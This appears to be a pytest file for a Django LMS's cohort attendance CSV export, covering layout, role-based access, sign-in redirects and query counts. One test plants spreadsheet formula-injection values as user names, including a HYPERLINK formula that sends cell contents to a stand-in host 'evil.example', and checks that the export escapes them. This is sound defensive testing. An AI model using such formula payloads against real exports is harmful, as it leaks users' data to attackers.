"""The attendance download: participants × sessions, formula-safe, only for the
cohort's coaches and the programme team."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from lms.accounts.roles import Role
from tests.factories import person
from tests.trajectories.factories import make_cohort
from trajectories import services
from trajectories.models import Cohort, CohortSession

pytestmark = pytest.mark.django_db


def _url(cohort: Cohort) -> str:
    return reverse("engage_trajectories:attendance_csv", args=[cohort.pk])


def _rows(response: Any) -> list[list[str]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:])))


def test_one_row_per_participant_one_column_per_session(
    coach: Any, client_for: Any
) -> None:
    cohort = make_cohort(capacity=3, coaches=(coach,), sessions=3)
    people = [
        person(Role.LECTURER, username=u, first_name=f, last_name=last)
        for u, f, last in [
            ("b", "Bea", "Bakker"), ("a", "Aad", "Aarts"), ("c", "Cor", "Cools"),
            ("w", "Wim", "Wachter"),
        ]
    ]  # fmt: skip
    enrolments = [services.enrol(user=p, cohort=cohort) for p in people]
    sessions = list(cohort.sessions.order_by("number"))
    services.mark_attendance(
        actor=coach, session=sessions[0], enrolment=enrolments[0], status="present"
    )  # noqa: E501
    services.mark_attendance(
        actor=coach, session=sessions[1], enrolment=enrolments[0], status="excused"
    )  # noqa: E501
    services.mark_attendance(
        actor=coach, session=sessions[0], enrolment=enrolments[1], status="absent"
    )  # noqa: E501
    services.withdraw(user=people[2], enrolment=enrolments[2])  # Wim moves up

    response = client_for(coach).get(_url(cohort))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="attendance-cohort-{cohort.pk}.csv"'
    )
    header, *rows = _rows(response)
    day = sessions[0].starts_at.astimezone().strftime("%Y-%m-%d")
    assert header[:3] == ["Participant", "E-mail", "Enrolment"]
    assert header[3] == f"1. Session 1 ({day})" and len(header) == 6
    assert rows == [
        ["Aad Aarts", "a@example.org", "enrolled", "absent", "", ""],
        ["Bea Bakker", "b@example.org", "enrolled", "present", "excused", ""],
        ["Cor Cools", "c@example.org", "withdrawn", "", "", ""],
        ["Wim Wachter", "w@example.org", "enrolled", "", "", ""],
    ]


def test_cells_never_start_a_formula(coach: Any, client_for: Any) -> None:
    cohort = make_cohort(coaches=(coach,), sessions=1)
    CohortSession.objects.filter(cohort=cohort).update(title="=1+1")
    hostile = person(
        Role.LECTURER,
        username="evil",
        first_name='=HYPERLINK("http://evil.example/?"&A1,"x")',
        last_name="",
        email="@evil@example.org",
    )
    services.enrol(user=hostile, cohort=cohort)
    for first in ("+31", "-2", "@SUM(A1)"):
        services.enrol(
            user=person(Role.LECTURER, first_name=first, last_name=""), cohort=cohort
        )
    header, *rows = _rows(client_for(coach).get(_url(cohort)))
    assert header[3].startswith("1. =1+1 (")
    cells = [cell for row in [header, *rows] for cell in row]
    assert not [c for c in cells if c[:1] in {"=", "+", "-", "@", "\t", "\r"}]
    names = sorted(row[0] for row in rows)
    assert all(name.startswith("'") for name in names), names
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in names
    assert any(row[1] == "'@evil@example.org" for row in rows)


@pytest.mark.parametrize(
    ("role", "status"),
    [
        ("coach", 200),
        ("programme_admin", 200),
        ("other_coach", 404),
        ("participant", 404),
        ("other_lecturer", 404),
        ("coordinator", 404),
    ],
)
def test_only_the_cohorts_coaches_and_the_programme_team_download(
    role: str, status: int, coach: Any, lecturer: Any, coordinator: Any,
    programme_admin: Any, client_for: Any,
) -> None:  # fmt: skip
    cohort = make_cohort(coaches=(coach,))
    services.enrol(user=lecturer, cohort=cohort)
    make_cohort(cohort.programme, coaches=(person(Role.COACH, username="oc"),))
    users = {
        "coach": coach,
        "programme_admin": programme_admin,
        "other_coach": person(Role.COACH, username="other-coach"),
        "participant": lecturer,
        "other_lecturer": person(Role.LECTURER, username="other-lecturer"),
        "coordinator": coordinator,
    }
    response = client_for(users[role]).get(_url(cohort))
    assert response.status_code == status
    if status == 404:
        assert lecturer.email not in response.content.decode()


def test_anonymous_people_are_sent_to_sign_in(coach: Any) -> None:
    cohort = make_cohort(coaches=(coach,))
    response = Client().get(_url(cohort))
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")
    assert (
        Client()
        .get(reverse("engage_trajectories:attendance_csv", args=[10**18 - 1]))
        .status_code
        == 302
    )


def test_the_export_takes_a_fixed_number_of_queries(
    coach: Any, client_for: Any, django_assert_max_num_queries: Any
) -> None:
    cohort = make_cohort(capacity=40, coaches=(coach,), sessions=10)
    sessions = list(cohort.sessions.all())
    client = client_for(coach)

    def grow(size: int) -> None:
        for n in range(cohort.enrolments.count(), size):
            enrolment = services.enrol(
                user=person(Role.LECTURER, username=f"p{n}"), cohort=cohort
            )
            for session in sessions[:5]:
                services.mark_attendance(
                    actor=coach, session=session, enrolment=enrolment, status="present"
                )

    grow(3)
    client.get(_url(cohort))  # warm the caches of the sign-in
    with django_assert_max_num_queries(10) as captured:
        client.get(_url(cohort))
    few = len(captured)  # now: growing overwrites the query log
    grow(40)
    with django_assert_max_num_queries(few):
        response = client.get(_url(cohort))
    assert len(_rows(response)) == 41


def test_the_coach_page_links_the_download(coach: Any, client_for: Any) -> None:
    cohort = make_cohort(coaches=(coach,))
    html = client_for(coach).get(
        reverse("engage_trajectories:cohort", args=[cohort.pk])
    )
    assert f'href="{_url(cohort)}"' in html.content.decode()
